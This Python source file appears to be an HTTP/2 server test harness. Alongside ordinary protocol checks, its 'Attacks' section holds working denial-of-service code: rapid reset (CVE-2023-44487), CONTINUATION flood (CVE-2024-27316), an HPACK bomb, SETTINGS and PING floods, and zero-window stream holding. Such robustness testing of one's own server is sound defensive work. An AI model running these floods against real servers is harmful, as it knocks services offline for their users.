#!/usr/bin/env python3
"""HTTP/2 checks against a server, one subcommand per case, each printing one JSON line.

A client we did not write: PyPI's h2 (its H2Connection for the cases a well-behaved client
sends, so a frame of ours it finds wrong is reported) and h2's own frame and HPACK libraries
(hyperframe, hpack) for the attacks, whose frames H2Connection refuses to send. It connects over
TLS (ALPN h2, trusting --cafile) with --tls, else in cleartext with prior knowledge (RFC 9113
§3.3), and reports what the server did: GOAWAY (code, last stream), RST_STREAM codes, statuses,
body bytes, whether the connection was closed, and the seconds that took.

    h2_attacks.py rapid-reset --port 8443 --tls --cafile ca.pem
    h2_attacks.py normal --port 8080 --path /a
"""

import argparse
import json
import os
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CODES = {
    0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT", 0x5: "STREAM_CLOSED", 0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM",
    0x8: "CANCEL", 0x9: "COMPRESSION_ERROR", 0xA: "CONNECT_ERROR", 0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY", 0xD: "HTTP_1_1_REQUIRED",
}
CONNECTION_FIELDS = {
    "connection": "keep-alive", "keep-alive": "timeout=5", "proxy-connection": "keep-alive",
    "transfer-encoding": "chunked", "upgrade": "websocket", "te": "gzip",
}


class NotHTTP2(Exception):
    """The server did not choose h2 in the TLS handshake."""


class Report:
    """What the server did, printed as one JSON line."""

    def __init__(self, case):
        self.started = time.monotonic()
        self.data = {
            "case": case, "goaway": None, "resets": {}, "statuses": {}, "headers": {}, "bytes": {},
            "ended": [], "closed": False, "seconds": None, "sent": {}, "settings_acks": 0,
            "ping_acks": 0, "window_updates": 0, "server_settings": {}, "error": None,
        }

    def goaway(self, code, last_stream_id, debug=b""):
        if self.data["goaway"] is None:
            self.data["goaway"] = {
                "code": code, "name": CODES.get(code, hex(code)), "last_stream_id": last_stream_id,
                "debug": debug.decode("utf-8", "replace"), "seconds": self.elapsed(),
            }

    def reset(self, stream, code):
        self.data["resets"][str(stream)] = code

    def response(self, stream, fields):
        fields = [(n.decode() if isinstance(n, bytes) else n, v.decode() if isinstance(v, bytes) else v)
                  for n, v in fields]
        status = dict(fields).get(":status")
        if status is not None:
            self.data["statuses"].setdefault(str(stream), []).append(int(status))
            if not status.startswith("1"):
                self.data["headers"][str(stream)] = {n: v for n, v in fields if not n.startswith(":")}

    def body(self, stream, count):
        self.data["bytes"][str(stream)] = self.data["bytes"].get(str(stream), 0) + count

    def end(self, stream):
        self.data["ended"].append(stream)
        self.data.setdefault("ended_seconds", {})[str(stream)] = self.elapsed()

    def closed(self):
        if not self.data["closed"]:
            self.data["closed"] = True
            self.data["closed_seconds"] = self.elapsed()

    def elapsed(self):
        return round(time.monotonic() - self.started, 3)

    def print(self):
        self.data["seconds"] = self.elapsed()
        print(json.dumps(self.data, sort_keys=True), flush=True)


def connect(args):
    """A connection to the server: TLS with ALPN h2, or TCP for prior knowledge."""
    sock = socket.create_connection((args.host, args.port), timeout=args.timeout)
    if args.receive_buffer:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, args.receive_buffer)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if not args.tls:
        return sock
    context = ssl.create_default_context(cafile=args.cafile)
    context.set_alpn_protocols(["h2"])
    sock = context.wrap_socket(sock, server_hostname=args.server_name)
    if sock.selected_alpn_protocol() != "h2":
        raise NotHTTP2(f"the server chose ALPN {sock.selected_alpn_protocol()!r}, not h2")
    return sock


def request_fields(args, path=None, method="GET", extra=()):
    scheme = "https" if args.tls else "http"
    return [(":method", method), (":scheme", scheme), (":authority", args.authority),
            (":path", path or args.path)] + list(extra)


def receive(sock, report, seconds, until, consume):
    """Hands what arrives to `consume` for at most `seconds`, until `until(report)`, or the
    connection ends (the report says so)."""
    deadline = time.monotonic() + seconds
    while not report.data["closed"] and not until(report):
        left = deadline - time.monotonic()
        if left <= 0:
            return
        sock.settimeout(min(left, 0.2))
        try:
            chunk = sock.recv(65536)
        except (socket.timeout, ssl.SSLWantReadError):
            continue
        except OSError:
            chunk = b""
        if not chunk:
            report.closed()
            return
        consume(chunk)


class RawConnection:
    """Frames written and read one by one, without a state machine that would refuse ours."""

    def __init__(self, args, report, settings=None):
        self.sock = connect(args)
        self.report = report
        self.encoder = Encoder()
        self.decoder = Decoder()
        self.decoder.max_header_list_size = 1 << 30
        self.buffer = b""
        self.block = None
        self.next_stream = 1
        frame = SettingsFrame(0, settings or {})
        self.sock.sendall(PREFACE + frame.serialize())

    def send(self, *frames):
        """Writes frames; False once the server has closed (the report says so)."""
        try:
            self.sock.sendall(b"".join(frame.serialize() for frame in frames))
            return True
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
            self.report.closed()
            return False

    def stream(self):
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        return stream

    def headers(self, stream, fields, end_stream=True, end_headers=True, sensitive=False):
        """A HEADERS frame with `fields` encoded (literal, never indexed when `sensitive`)."""
        frame = HeadersFrame(stream)
        frame.data = self.encoder.encode([(n, v, True) for n, v in fields] if sensitive else fields)
        if end_stream:
            frame.flags.add("END_STREAM")
        if end_headers:
            frame.flags.add("END_HEADERS")
        return frame

    def request(self, args, fields=None, end_stream=True):
        stream = self.stream()
        self.send(self.headers(stream, fields or request_fields(args), end_stream=end_stream))
        return stream

    def pump(self, seconds, until=lambda report: False, acknowledge=True):
        """Reads frames for at most `seconds`, until `until(report)`, or the connection ends."""

        def consume(chunk):
            self.buffer += chunk
            self.frames(acknowledge)

        receive(self.sock, self.report, seconds, until, consume)

    def told_to_stop(self):
        """Reads what has come, without waiting: whether a GOAWAY came or the connection ended."""
        self.pump(0.001, lambda r: r.data["goaway"])
        return bool(self.report.data["goaway"] or self.report.data["closed"])

    def frames(self, acknowledge):
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            frame, _ = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            frame.parse_body(memoryview(self.buffer[9:9 + length]))
            self.buffer = self.buffer[9 + length:]
            self.received(frame, acknowledge)

    def received(self, frame, acknowledge):
        report = self.report
        if isinstance(frame, SettingsFrame):
            if "ACK" in frame.flags:
                report.data["settings_acks"] += 1
            else:
                for key, value in frame.settings.items():
                    report.data["server_settings"][str(key)] = value
                if acknowledge:
                    self.send(SettingsFrame(0, flags=["ACK"]))
        elif isinstance(frame, PingFrame):
            if "ACK" in frame.flags:
                report.data["ping_acks"] += 1
            elif acknowledge:
                self.send(PingFrame(0, frame.opaque_data, flags=["ACK"]))
        elif isinstance(frame, GoAwayFrame):
            report.goaway(frame.error_code, frame.last_stream_id, frame.additional_data)
        elif isinstance(frame, RstStreamFrame):
            report.reset(frame.stream_id, frame.error_code)
        elif isinstance(frame, WindowUpdateFrame):
            report.data["window_updates"] += 1
        elif isinstance(frame, (HeadersFrame, ContinuationFrame)):
            self.block = (self.block or b"") + frame.data
            if "END_HEADERS" in frame.flags:
                report.response(frame.stream_id, self.decoder.decode(self.block))
                self.block = None
            if "END_STREAM" in frame.flags:
                report.end(frame.stream_id)
        elif isinstance(frame, DataFrame):
            report.body(frame.stream_id, len(frame.data))
            if frame.flow_controlled_length and acknowledge:
                # The bytes are taken at once: the connection and the stream windows reopen.
                size = frame.flow_controlled_length
                self.send(WindowUpdateFrame(0, size), WindowUpdateFrame(frame.stream_id, size))
            if "END_STREAM" in frame.flags:
                report.end(frame.stream_id)


class Client:
    """A well-behaved client on h2's H2Connection: flow control, several streams, trailers."""

    def __init__(self, args, report, validate=True):
        self.sock = connect(args)
        self.report = report
        config = h2.config.H2Configuration(
            client_side=True, header_encoding="utf-8", validate_outbound_headers=validate,
            normalize_outbound_headers=validate)
        self.connection = h2.connection.H2Connection(config)
        self.connection.initiate_connection()
        self.flush()

    def flush(self):
        data = self.connection.data_to_send()
        if data:
            try:
                self.sock.sendall(data)
            except OSError:
                self.report.closed()

    def pump(self, seconds, until=lambda report: False):
        receive(self.sock, self.report, seconds, until, self.consume)

    def consume(self, chunk):
        try:
            events = self.connection.receive_data(chunk)
        except h2.exceptions.ProtocolError as error:
            self.report.data["error"] = f"h2 refused a frame of the server: {error!r}"
            self.report.closed()
            return
        for event in events:
            self.event(event)
        self.flush()

    def event(self, event):
        report = self.report
        if isinstance(event, (h2.events.ResponseReceived, h2.events.InformationalResponseReceived)):
            report.response(event.stream_id, event.headers)
        elif isinstance(event, h2.events.DataReceived):
            report.body(event.stream_id, len(event.data))
            self.connection.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        elif isinstance(event, h2.events.StreamEnded):
            report.end(event.stream_id)
        elif isinstance(event, h2.events.StreamReset):
            report.reset(event.stream_id, event.error_code)
        elif isinstance(event, h2.events.ConnectionTerminated):
            report.goaway(event.error_code, event.last_stream_id, event.additional_data or b"")
        elif isinstance(event, h2.events.WindowUpdated):
            report.data["window_updates"] += 1

    def send_body(self, stream, body, seconds):
        """Sends `body` on `stream` as the windows allow, then ends the stream."""
        sent, deadline = 0, time.monotonic() + seconds
        while sent < len(body) and time.monotonic() < deadline and not self.report.data["closed"]:
            window = min(self.connection.local_flow_control_window(stream),
                         self.connection.max_outbound_frame_size)
            if window <= 0:
                self.pump(0.2, until=lambda report: self.connection.local_flow_control_window(stream) > 0)
                continue
            self.connection.send_data(stream, body[sent:sent + window])
            sent += min(window, len(body) - sent)
            self.flush()
        if sent == len(body):
            self.connection.end_stream(stream)
            self.flush()
        return sent


def done(streams):
    """Until every stream in `streams` has ended or been reset."""
    return lambda report: all(str(s) in report.data["resets"] or s in report.data["ended"] for s in streams)


def answered(stream):
    return done([stream])


# MARK: - Cases a client may send


def case_normal(args, report):
    """One request (--method, default GET, with each --header); the status, fields and body bytes. Frames read one by one: h2's H2Connection
    ends the connection at the first GOAWAY, even the NO_ERROR notice naming stream 2^31-1 that
    a server shutting down gracefully sends first (RFC 9113 §6.8), so it could not see the
    stream finish."""
    raw = RawConnection(args, report)
    fields = [tuple(field.split(":", 1)) for field in args.header]
    stream = raw.request(args, request_fields(args, method=args.method, extra=fields))
    raw.pump(args.timeout, answered(stream))


def case_flow_control(args, report):
    """A POST body of --count bytes (default 200000: three windows of 65535) sent as the
    server's WINDOW_UPDATEs allow (RFC 9113 §5.2, §6.9)."""
    client = Client(args, report)
    stream = client.connection.get_next_available_stream_id()
    body = bytes(i % 251 for i in range(args.count or 200_000))
    client.connection.send_headers(
        stream, request_fields(args, method="POST", extra=[("content-length", str(len(body)))]))
    client.flush()
    client.pump(0.3)
    report.data["sent"]["body_bytes"] = client.send_body(stream, body, args.timeout)
    client.pump(args.timeout, answered(stream))


def case_trailers(args, report):
    """A POST whose body is followed by a trailer section (HEADERS with END_STREAM, RFC 9113
    §8.1): the server ignores the trailers and answers."""
    client = Client(args, report)
    stream = client.connection.get_next_available_stream_id()
    client.connection.send_headers(stream, request_fields(args, method="POST"))
    client.connection.send_data(stream, b"posted body")
    client.connection.send_headers(stream, [("x-request-trailer", "ignored")], end_stream=True)
    client.flush()
    client.pump(args.timeout, answered(stream))


def case_multiplexing(args, report):
    """--path (slow at the origin) then --second-path on the same connection: the second
    answer does not wait for the first (RFC 9113 §5)."""
    client = Client(args, report)
    slow = client.connection.get_next_available_stream_id()
    client.connection.send_headers(slow, request_fields(args), end_stream=True)
    client.flush()
    time.sleep(0.1)
    fast = client.connection.get_next_available_stream_id()
    client.connection.send_headers(fast, request_fields(args, path=args.second_path), end_stream=True)
    client.flush()
    report.data["sent"] = {"slow_stream": slow, "fast_stream": fast}
    client.pump(args.timeout, done([slow, fast]))


def case_authority_host(args, report):
    """`:authority` and a `Host` naming another host (RFC 9113 §8.3.1)."""
    client = Client(args, report, validate=False)
    stream = client.connection.get_next_available_stream_id()
    client.connection.send_headers(
        stream, request_fields(args, extra=[("host", args.other_host)]), end_stream=True)
    client.flush()
    client.pump(args.timeout, answered(stream))


# MARK: - Malformed requests (RFC 9113 §8.1.1, §8.2)


def case_uppercase(args, report):
    """A field name with upper-case letters (RFC 9113 §8.2.1)."""
    raw = RawConnection(args, report)
    stream = raw.request(args, request_fields(args, extra=[("X-Upper-Case", "1")]))
    raw.pump(args.timeout, answered(stream))


def case_connection_field(args, report):
    """A connection-specific field, --field NAME[=VALUE] (RFC 9113 §8.2.2)."""
    name, _, value = args.field.partition("=")
    value = value or CONNECTION_FIELDS.get(name, "1")
    raw = RawConnection(args, report)
    stream = raw.request(args, request_fields(args, extra=[(name, value)]))
    report.data["sent"] = {"field": name, "value": value}
    raw.pump(args.timeout, answered(stream))


def case_oversized_headers(args, report):
    """A header list of about --count octets (default 20000) in HEADERS and CONTINUATION, over
    the server's MAX_HEADER_LIST_SIZE (RFC 9113 §6.5.2, §10.5.1)."""
    raw = RawConnection(args, report)
    raw.pump(0.3)
    stream = raw.stream()
    size = args.count or 20_000
    fields = request_fields(args) + [(f"x-large-{i}", "a" * 1000) for i in range(size // 1000)]
    block = raw.encoder.encode([(n, v, True) for n, v in fields])
    raw.send(*header_block_frames(stream, block, 16384))
    report.data["sent"] = {"block_bytes": len(block)}
    raw.pump(args.timeout, answered(stream))


def header_block_frames(stream, block, size):
    """`block` as HEADERS plus CONTINUATION frames of at most `size` octets (END_STREAM set)."""
    frames = []
    for offset in range(0, len(block), size):
        frame = HeadersFrame(stream) if offset == 0 else ContinuationFrame(stream)
        frame.data = block[offset:offset + size]
        if offset == 0:
            frame.flags.add("END_STREAM")
        if offset + size >= len(block):
            frame.flags.add("END_HEADERS")
        frames.append(frame)
    return frames


def case_concurrent_streams(args, report):
    """--count streams (default 101) opened and left open (no END_STREAM: they count against
    the limit even once answered), one more than the server's MAX_CONCURRENT_STREAMS of
    100 (RFC 9113 §5.1.2). Waits until the last one is refused or the connection is closed."""
    raw = RawConnection(args, report)
    raw.pump(0.5, lambda r: "3" in r.data["server_settings"])
    streams = [raw.stream() for _ in range(args.count or 101)]
    raw.send(*(raw.headers(s, request_fields(args), end_stream=False) for s in streams))
    report.data["sent"] = {"streams": len(streams), "last_stream": streams[-1]}
    raw.pump(args.timeout, lambda r: str(streams[-1]) in r.data["resets"] or r.data["goaway"])


# MARK: - Attacks


def keep_sending(raw, groups, check_every):
    """Sends each group of frames `groups` yields until the server sends a GOAWAY or closes,
    reading what came every `check_every` groups; how many groups went."""
    sent = 0
    for group in groups:
        if not raw.send(*group):
            break
        sent += 1
        if sent % check_every == 0 and raw.told_to_stop():
            break
    return sent


def case_rapid_reset(args, report):
    """Streams opened and cancelled at once, --count of them (default 1000) (CVE-2023-44487)."""
    raw = RawConnection(args, report)
    raw.pump(0.3)
    streams = (raw.stream() for _ in range(args.count or 1000))
    sent = keep_sending(raw, ((raw.headers(s, request_fields(args)), RstStreamFrame(s, 0x8)) for s in streams), 50)
    report.data["sent"] = {"resets": sent}
    raw.pump(args.timeout)


def case_continuation_flood(args, report):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end the header block,
    --count of them at most (default 10000), each one more small field (CVE-2024-27316)."""
    raw = RawConnection(args, report)
    raw.pump(0.3)
    stream = raw.stream()
    raw.send(raw.headers(stream, request_fields(args), end_headers=False))

    def continuation(i):
        frame = ContinuationFrame(stream)
        frame.data = raw.encoder.encode([(f"x-flood-{i}", "v" * 100, True)])
        return (frame,)

    sent = keep_sending(raw, (continuation(i) for i in range(args.count or 10000)), 100)
    report.data["sent"] = {"continuations": sent}
    raw.pump(args.timeout)


def case_hpack_bomb(args, report):
    """One dynamic-table entry of about 4 KB (the whole default table) referenced --count times
    (default 10000: 40 MB decoded from one 10 KB header block)."""
    raw = RawConnection(args, report)
    raw.pump(0.3)
    stream = raw.stream()
    entry = ("x-bomb", "b" * 4000)
    # The first encoding inserts the entry (literal with incremental indexing), the others are
    # one-octet references to it.
    block = raw.encoder.encode(request_fields(args) + [entry] * (args.count or 10000))
    raw.send(*header_block_frames(stream, block, 16384))
    report.data["sent"] = {"block_bytes": len(block), "decoded_bytes": 4006 * (args.count or 10000)}
    raw.pump(args.timeout, lambda r: answered(stream)(r) or r.data["goaway"])


def flood(args, report, make, read):
    """--count frames (default 5000) made by `make`, in batches of 100, reading (and answering)
    between them when `read`."""
    raw = RawConnection(args, report)
    raw.pump(0.3)
    sent = 0
    if not read:
        raw.sock.settimeout(args.timeout)
    for batch in range(0, args.count or 5000, 100):
        try:
            raw.sock.sendall(b"".join(make(batch + i).serialize() for i in range(100)))
        except socket.timeout:
            report.data["send_blocked_seconds"] = report.elapsed()
            break
        except OSError:
            report.closed()
            break
        sent += 100
        if read and raw.told_to_stop():
            break
    report.data["sent"] = {"frames": sent}
    raw.pump(args.timeout)


def case_settings_flood(args, report):
    """Empty SETTINGS frames, each asking for an ACK (RFC 9113 §6.5.3)."""
    flood(args, report, lambda i: SettingsFrame(0, {}), read=True)


def case_ping_flood(args, report):
    """PING frames, each asking for an ACK (RFC 9113 §6.7)."""
    flood(args, report, lambda i: PingFrame(0, i.to_bytes(8, "big")), read=True)


def case_ping_flood_unread(args, report):
    """PING frames from a client that never reads the ACKs (a small receive buffer): the ACKs
    pile up at the server, which must cut the connection rather than queue them all (a server
    limiting the rate of control frames cuts it for that first)."""
    flood(args, report, lambda i: PingFrame(0, i.to_bytes(8, "big")), read=False)


def case_idle(args, report):
    """One GET for --path, then nothing (with --count 0, not even the GET): the server's idle
    timeout (its header timeout for a connection that never asked) ends the connection."""
    raw = RawConnection(args, report)
    if args.count != 0:
        raw.request(args)
    raw.pump(args.timeout)


def case_request_during_goaway(args, report):
    """One GET for --path answered, nothing left open; --ready-file is then written, and once
    --wait-file exists (the test has had the server send its GOAWAY meanwhile, unread here) a
    second GET goes out, as from a client that has not read that GOAWAY yet. A server that gives
    notice first (RFC 9113 §6.8: GOAWAY naming stream 2^31-1, the final one at least a round
    trip later) still takes it; one whose only GOAWAY named the last stream it had taken does
    not."""
    raw = RawConnection(args, report)
    first = raw.request(args)
    raw.pump(args.timeout, answered(first))
    with open(args.ready_file, "w"):
        pass
    deadline = time.monotonic() + args.timeout
    while not os.path.exists(args.wait_file) and time.monotonic() < deadline:
        time.sleep(0.01)
    second = raw.request(args)
    raw.pump(args.timeout, lambda r: answered(second)(r) and r.data["closed"])


def case_zero_window(args, report):
    """INITIAL_WINDOW_SIZE 0 and never a WINDOW_UPDATE, for --path on --count streams (default
    1): no answer can ever be sent, and a server that held each whole would hold them all
    (RFC 9113 §6.9.2)."""
    raw = RawConnection(args, report, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    streams = [raw.request(args) for _ in range(args.count or 1)]
    report.data["sent"] = {"streams": len(streams)}
    raw.pump(args.timeout, acknowledge=False)


CASES = {name[5:].replace("_", "-"): function for name, function in globals().items() if name.startswith("case_")}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("case", choices=sorted(CASES))
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--tls", action="store_true", help="TLS with ALPN h2, else cleartext prior knowledge")
    parser.add_argument("--cafile", help="the CA the server's certificate is checked against")
    parser.add_argument("--server-name", default="localhost", help="SNI and the certificate's name")
    parser.add_argument("--authority", help=":authority (default: server name:port)")
    parser.add_argument("--path", default="/")
    parser.add_argument("--method", default="GET", help="normal: the request method")
    parser.add_argument("--header", action="append", default=[], help="normal: a field NAME:VALUE (repeatable)")
    parser.add_argument("--second-path", default="/fast", help="multiplexing: the fast path")
    parser.add_argument("--other-host", default="other.example", help="authority-host: the Host field")
    parser.add_argument("--field", default="connection", help="connection-field: NAME[=VALUE]")
    parser.add_argument("--count", type=int, help="how many frames, streams or octets (per case)")
    parser.add_argument("--timeout", type=float, default=10, help="seconds to wait for the server")
    parser.add_argument("--receive-buffer", type=int, help="SO_RCVBUF (ping-flood-unread sets 4096)")
    parser.add_argument("--ready-file", help="request-during-goaway: written once the first request is answered")
    parser.add_argument("--wait-file", help="request-during-goaway: the second request waits for it")
    args = parser.parse_args()
    args.authority = args.authority or f"{args.server_name}:{args.port}"
    if args.case == "ping-flood-unread" and not args.receive_buffer:
        args.receive_buffer = 4096
    report = Report(args.case)
    try:
        CASES[args.case](args, report)
    except (ConnectionRefusedError, socket.timeout, ssl.SSLError, NotHTTP2) as error:
        report.data["error"] = repr(error)
    report.print()


if __name__ == "__main__":
    sys.exit(main())
